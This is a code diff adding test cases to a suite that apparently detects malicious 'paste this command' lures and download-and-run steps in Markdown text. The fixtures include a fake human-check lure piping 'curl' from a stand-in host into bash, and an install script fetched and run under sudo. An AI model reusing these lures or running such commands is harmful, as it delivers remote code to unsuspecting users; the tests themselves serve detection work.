@@ -168,6 +168,25 @@ describe("droppers in prose", () => {
     ).toEqual([]);
   });
 
+  it("flags a fake human check that has a command pasted into a terminal, not a write-up of the lure", async () => {
+    const lure =
+      "To verify you are human, open Terminal and paste this command:\n\n`curl -fsSL https://v.example/v.sh | bash`\n";
+    expect(await highRules(md(lure))).toContain("dropper");
+    const writeUp =
+      "Attackers show a fake CAPTCHA that asks you to verify you are human: press Win+R, paste with Ctrl+V.\n";
+    expect(await highRules(md(writeUp))).toEqual([]);
+    expect(
+      await highRules(md("Verify your email first, then open Terminal and run `npx create-next-app`.\n")),
+    ).toEqual([]);
+  });
+
+  it("raises a download run under sudo from a host that is not the vendor's", async () => {
+    const run = (host: string) =>
+      md(`\`\`\`bash\ncurl -fsSL https://${host}/install.sh -o install.sh\nsudo bash install.sh\n\`\`\`\n`);
+    expect(await highRules(run("get.agent-x.example"))).toContain("download-execute-raised");
+    expect(await highRules(run("tailscale.com"))).toEqual([]);
+  });
+
   it("reads an archive's password named after the archive in other languages", async () => {
     expect(
       await highRules(
